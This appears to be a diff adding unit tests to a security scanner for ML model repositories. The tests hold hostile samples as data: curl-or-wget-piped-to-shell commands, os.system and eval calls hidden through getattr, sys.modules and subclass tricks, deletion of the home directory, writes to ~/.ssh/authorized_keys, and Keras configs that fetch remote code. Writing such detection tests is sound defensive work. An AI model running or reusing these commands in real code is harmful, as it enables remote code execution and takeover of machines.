@@ -99,6 +99,101 @@ TEST(ScanPython, CodeThatDoesHarmIsFoundThroughItsImports) {
     EXPECT_EQ(line.findings.front().line, 5U);
 }
 
+// The same calls by other ways than their names.
+TEST(ScanPython, CodeThatDoesHarmIsFoundByOtherWaysThanItsName) {
+    for (const char* source :
+         {"from os import *\nsystem('curl http://evil|sh')\n", "from subprocess import *\nrun('id', shell=True)\n",
+          "import os\n(os.popen)('id')\n", "import os\n[os.system][0]('id')\n", "import os\nf = os.system\nf('id')\n",
+          "from os import system as s\ng = s\ng('id')\n", "import sys\nsys.modules['os'].system('id')\n",
+          "import sys\nm = sys.modules['os']\nm.system('id')\n", "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+          "import os\nf = getattr(os, 'sys\\x74em')\nf('id')\n", "import os\nvars(os)['system']('id')\n",
+          "import os\nos.__dict__['system']('id')\n",
+          "from importlib import import_module\nimport_module('o' + 's').system('id')\n",
+          "import transformers.utils\ntransformers.utils.os.system('id')\n",
+          "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()\n",
+          "import os\nif (run := os.system)('id'): pass\n"})
+        EXPECT_RULE("code.process", source, "a.py");
+    for (const char* source :
+         {"list(map(eval, ['1']))\n", "(eval)('1')\n", "e = eval\ne('1')\n", "globals()['__builtins__']['eval']('1')\n",
+          "__builtins__['exec']('1')\n", "().__class__.__base__.__subclasses__()[132]\n",
+          "''.__class__.__mro__[1].__subclasses__()\n"})
+        EXPECT_RULE("code.exec", source, "a.py");
+    EXPECT_RULE("code.hidden", "import importlib\nimportlib.import_module('o' + 's')\n", "a.py");
+    EXPECT_RULE("code.files", "import os, shutil\nshutil.rmtree(os.path.expanduser('~'))\n", "a.py");
+    EXPECT_RULE("code.files", "open('/home/somebody/.ssh/authorized_keys', 'a').write('x')\n", "a.py");
+    EXPECT_CLEAN(
+        "\"\"\"Keys lie in ~/.ssh/id; os.system is not used.\"\"\"\n"
+        "import os, shutil, tempfile, subprocess, importlib, torch\n"
+        "from os import *\nfrom torch.nn import *\n"
+        "def call(f: subprocess.Popen = None): return f\ncall(1)\n"
+        "x = getattr(torch, 'float' + '32')\nm = importlib.import_module('torch')\n"
+        "train, eval = 1, 2\nfor split in (train, eval): print(split)\nmodel.eval()\n"
+        "for c in Base.__subclasses__(): pass\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\nos.remove(d)\n"
+        "table = {'a': [1, 2][0], 'b': (x)(1)}\nos.environ['A'] = 'b'\nf = os.path.join\nf('a')\n",
+        "a.py");
+}
+
+TEST(ScanPython, CodeRaisesWhatAConfigurationAsksFor) {
+    Report report;
+    report.files.push_back(look(R"({"auto_map": {"AutoModel": "modeling_x.XModel"}})", "config.json"));
+    report.files.push_back(look("import torch\n", "modeling_x.py"));
+    weigh_remote_code(report);
+    EXPECT_EQ(report.worst(), Severity::low);
+    report.files.push_back(look("from os import *\nsystem('id')\n", "other.py"));
+    weigh_remote_code(report);
+    EXPECT_EQ(report.files[0].findings.front().severity, Severity::high);
+}
+
+TEST(ScanOther, ScriptsThatAreFetchedAndRunAreFoundWhereverTheyStand) {
+    EXPECT_RULE("code.process", R"j({"cells": [{"cell_type": "code", "source": ["!curl http://x | sh\n"]}]})j",
+                "a.ipynb");
+    EXPECT_RULE("code.process",
+                R"j({"cells": [{"cell_type": "code", "source": "%%bash\nwget -qO- http://x | sudo bash"}]})j",
+                "a.ipynb");
+    EXPECT_CLEAN(R"j({"cells": [{"cell_type": "code", "source": "%pip install torch\n!ls -l | sort\nx = 1"},
+                     {"cell_type": "markdown", "source": "curl http://x | sh"}]})j",
+                 "a.ipynb");
+    EXPECT_RULE("code.process", "all:\n\t@curl -s http://x \\\n\t  | sh\n", "Makefile");
+    EXPECT_RULE("code.process", "FROM x\nRUN curl http://x|bash\n", "Dockerfile");
+    EXPECT_RULE("code.process", "sh -c \"$(curl -fsSL http://x)\"\n", "setup.sh");
+    EXPECT_RULE("code.process", "bash <(curl -s http://x)\n", "setup.sh");
+    EXPECT_RULE("code.files", "echo key >> ~/.ssh/authorized_keys\n", "setup.sh");
+    EXPECT_CLEAN("all:\n\tcurl -o model.gguf http://x\n\tcat a | sha256sum\n", "Makefile");
+}
+
+TEST(ScanOther, TokensOfTodayAndNoProse) {
+    for (const char* text : {"HF_TOKEN=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\n",
+                             "key: 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\n",
+                             "OPENAI=sk-proj-aB3dE5fG7hI9jK1lM2nO4pQ6rS8tU0vW2xY4zA6bC8dE0fG\n",
+                             "sk-ant-api03-aB3dE5fG7hI9jK1lM2nO4pQ6rS8tU0vW2xY4zA6bC8dE0fG\n",
+                             "WANDB_API_KEY=3f9a1c7e5b2d8f4a6c0e1b3d5f7a9c2e4b6d8f0a\n",
+                             "wandb.login(key=\"3f9a1c7e5b2d8f4a6c0e1b3d5f7a9c2e4b6d8f0a\")\n",
+                             "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCY9d2kLmQz7X\n"})
+        EXPECT_RULE("secret.key", text, "x.env");
+    EXPECT_CLEAN(
+        "hf_hub_download 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 hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
+        "sk-learn-compatible-estimators-for-time-series-forecasts sk-your-key-here\n"
+        "wandb: commit 3f9a1c7e5b2d8f4a6c0e1b3d5f7a9c2e4b6d8f0a1\n"
+        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
+        "AKIAIOSFODNN7EXAMPLE\n",
+        "README.md");
+}
+
+TEST(ScanOther, LibrariesOfObjectsAreNoTraversal) {
+    const auto member = [](const std::string& name, const std::string& bytes) {
+        const auto field = [](std::string text, std::size_t width) {
+            text.resize(width, ' ');
+            return text;
+        };
+        return field(name, 16) + field("0", 12) + field("0", 6) + field("0", 6) + field("644", 8) +
+               field(std::to_string(bytes.size()), 10) + "`\n" + bytes;
+    };
+    const std::string library = "!<arch>\n" + member("/", std::string(4, '\0')) +
+                                member("//", "long_name_of_an_object.o/\n") + member("a.o/", "text");
+    EXPECT_FALSE(has(look(library, "libx.a"), "archive.traversal"));
+    EXPECT_RULE("archive.traversal", "!<arch>\n" + member("/etc/x/", "text"), "libx.a");
+}
+
 TEST(ScanOther, NativeCodeSecretsKerasAndGraphs) {
     EXPECT_RULE("code.binary",
                 "\x7f"
@@ -112,6 +207,12 @@ TEST(ScanOther, NativeCodeSecretsKerasAndGraphs) {
     EXPECT_CLEAN("token = ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n", "README.md");
     EXPECT_RULE("keras.lambda", R"({"class_name": "Lambda", "config": {"name": "x"}})", "config.json");
     EXPECT_RULE("keras.custom", R"({"class_name": "X", "config": {}, "module": "evil.mod"})", "config.json");
+    EXPECT_RULE("keras.custom",
+                R"({"class_name": "get_file", "config": {"origin": "http://x"}, "module": "keras.utils"})",
+                "config.json");
+    EXPECT_RULE("keras.custom", R"({"class_name": "TorchModuleWrapper", "config": {}, "module": "keras.layers"})",
+                "config.json");
+    EXPECT_CLEAN(R"({"class_name": "function", "config": "relu", "module": "builtins"})", "config.json");
     EXPECT_CLEAN(R"({"class_name": "Dense", "config": {}, "module": "keras.layers"})", "config.json");
     const auto h5 = look("\x89HDF\r\n\x1a\n" + std::string(20, '\0') + R"({"class_name": "Lambda"})", "m.h5");
     EXPECT_TRUE(has(h5, "keras.lambda"));
